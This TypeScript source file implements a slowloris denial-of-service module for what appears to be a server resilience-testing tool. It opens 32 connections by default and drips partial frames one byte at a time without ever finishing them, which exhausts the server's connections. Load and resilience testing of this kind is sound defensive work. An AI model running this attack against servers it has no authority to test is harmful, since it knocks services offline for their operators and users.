import type { Socket } from 'node:net';
import type { Attack } from '../attack.js';
import { AttackConnections } from '../connections.js';
import { partialFrame } from '../frames.js';

export interface SlowlorisOptions {
  /** Connections held. Default 32. */
  readonly connections?: number;
  /** Time between two bytes of one connection. Default 500 ms. */
  readonly intervalMs?: number;
  /** Size of the frame each connection starts and never finishes. Default 1 KiB. */
  readonly frameBytes?: number;
}

/** Connections that start a frame and send it a byte at a time, slowly, never the last byte. */
export function slowloris(options: SlowlorisOptions = {}): Attack {
  const { connections = 32, intervalMs = 500, frameBytes = 1024 } = options;
  return {
    name: 'slowloris',
    description: `${connections} connections each send a byte of a ${frameBytes}-byte frame every ${intervalMs} ms, never the last`,
    needsFrameBoundaries: true,
    holdsConnection: true,
    start(target) {
      const attack = new AttackConnections(target.host, target.port);
      const frame = partialFrame(target.codec, frameBytes, target.maxFrameBytes);
      const offsets = new Map<Socket, number>();
      const sendNext = (socket: Socket) => {
        const offset = offsets.get(socket) ?? 0;
        if (offset >= frame.length) return;
        attack.write(socket, frame.subarray(offset, offset + 1));
        offsets.set(socket, offset + 1);
      };
      for (let index = 0; index < connections; index++) {
        attack.connect(sendNext, (socket) => offsets.delete(socket));
      }
      const timer = setInterval(() => {
        for (const socket of offsets.keys()) sendNext(socket);
      }, intervalMs);
      return {
        figures: () => attack.figures(),
        stop() {
          clearInterval(timer);
          return attack.stop();
        },
      };
    },
  };
}
